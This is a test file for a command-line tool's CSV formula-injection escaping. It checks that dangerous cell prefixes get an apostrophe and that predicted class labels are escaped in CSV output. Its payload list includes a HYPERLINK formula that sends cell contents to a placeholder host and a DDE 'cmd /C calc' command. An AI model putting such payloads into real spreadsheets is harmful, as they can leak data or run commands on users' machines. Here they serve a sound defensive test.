import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { escapeFormula } from "../../src/cli/text/spreadsheet.js";
import { useFolder } from "../fixtures.js";
import { cli, cliJson } from "./command-line.js";

const folder = useFolder();

// Prefixes that OWASP's page on CSV injection names, and forms that spreadsheets are known to take.
const FORMULAS = [
  '=HYPERLINK("http://example.org?"&A1,"more")',
  "=1+1",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "-cmd",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "＝1+1",
  "＋1+x",
  "－x",
  "＠x",
  "-",
  "-3.2.1",
  "-12%",
];
const HARMLESS = ["-3.2", "+5", "-1e5", "-.5", "5.", "setosa", "a=b", "1-2", "'=1", "", "ñ", "5 %", "#N/A", "a@b.c"];

test.each(FORMULAS)("%j is put behind an apostrophe", (text) => {
  expect(escapeFormula(text)).toBe(`'${text}`);
});

test.each(HARMLESS)("%j stays as it is", (text) => {
  expect(escapeFormula(text)).toBe(text);
});

describe("predict", () => {
  test("escapes classes, keeps the file's own cells and numbers", async () => {
    const classes = ['=HYPERLINK("http://example.org","x")', "-3", "plain, with comma"];
    const rows = Array.from({ length: 90 }, (_, i) => [String(i % 3), `-${i}`, classes[i % 3]]);
    const text = Papa.unparse([["a", "b", "kind"], ...rows], { newline: "\n" });
    const file = folder.write("formulas.csv", text);
    const model = folder.path("model");
    await cliJson("train", file, "--target", "kind", "--task", "classification", "--epochs", "60", "--out", model);
    const { stdout } = await cli("predict", model, file, "--backend", "cpu", "--probabilities");
    const [header, ...predicted] = Papa.parse<string[]>(stdout, { skipEmptyLines: true }).data;
    expect(header.slice(0, 4)).toEqual(["a", "b", "kind", "prediction"]);
    expect(header.slice(4).every((name) => name.startsWith("probability "))).toBe(true);
    expect(predicted.map(([a, b, kind]) => [a, b, kind])).toEqual(rows);
    const found = new Set(predicted.map(([, , , prediction]) => prediction));
    expect([...found].sort()).toEqual([`'${classes[0]}`, "-3", "plain, with comma"].sort());
    // Programs get the class itself.
    const json = await cliJson("predict", model, file);
    expect(new Set(json.predictions)).toEqual(new Set(classes));
  });
});
